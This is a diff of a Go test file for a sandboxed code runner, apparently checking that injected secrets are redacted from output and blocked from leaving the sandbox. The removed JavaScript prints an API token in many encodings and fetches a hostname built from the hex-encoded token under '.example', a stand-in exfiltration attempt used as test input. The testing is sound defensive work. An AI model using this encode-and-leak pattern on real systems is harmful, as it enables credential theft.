@@ -21,6 +21,7 @@ import (
 
 	"github.com/unitask/unitask"
 	"github.com/unitask/unitask/internal/history"
+	"github.com/unitask/unitask/internal/testarchive"
 	"github.com/unitask/unitask/internal/testdir"
 	"github.com/unitask/unitask/policy"
 	"github.com/unitask/unitask/record"
@@ -38,14 +39,9 @@ func TestSecrets(t *testing.T) {
 				t.Fatal(err)
 			}
 			defer rt.Close()
+			code := testarchive.Open(t, "testdata/secretsprinted.txtar").Text("printed.js")
 			res, err := rt.Run(t.Context(), unitask.Request{Kernel: kernel,
-				Secrets: map[string]string{"API_TOKEN": secret, "OTHER": "other-secret"}, Code: `
-const s = process.env.API_TOKEN, b = Buffer.from(s);
-console.log("length", s.length, process.env.OTHER.length, Object.keys(process.env).sort().join());
-for (const c of s) process.stdout.write(c);
-console.log("|", s, b, b.toString("base64"), b.toString("hex"), encodeURIComponent(s), JSON.stringify({ s }), [...s].reverse().join(""));
-console.error(Buffer.from("x" + s).toString("base64url"), new Error(s).message, process.env.OTHER);
-fetch("http://" + b.toString("hex").slice(0, 46) + ".example/").catch((e) => { console.log(e.cause.code, e.cause.hostname); throw new Error("with " + s); });`}, unitask.IO{})
+				Secrets: map[string]string{"API_TOKEN": secret, "OTHER": "other-secret"}, Code: code}, unitask.IO{})
 			if err != nil || res.ExitCode != 1 {
 				t.Fatalf("%v %+v", err, res)
 			}
@@ -218,7 +214,9 @@ func TestSecretReachesServer(t *testing.T) {
 		res, err := unitask.Run(t.Context(), unitask.Request{Kernel: kernel,
 			Secrets: map[string]string{"GITHUB_TOKEN": token}, AllowTCP: []string{address},
 			Code: `fetch("http://` + address +
-				`/user", { headers: { Authorization: "Bearer " + process.env.GITHUB_TOKEN } }).then((r) => r.text()).then(console.log)`}, unitask.Options{Home: newHome(t)})
+				`/user", { headers: { Authorization: ` +
+				`"Bearer " + process.env.GITHUB_TOKEN } }).then((r) => r.text()).then(console.log)`},
+			unitask.Options{Home: newHome(t)})
 		if err != nil || string(res.Stdout) != "hello Bearer "+record.Redacted+"\n" || got.Swap("") != "Bearer "+token {
 			t.Errorf("%s: %v %q %q", kernel, err, res.Stdout, res.Stderr)
 		}
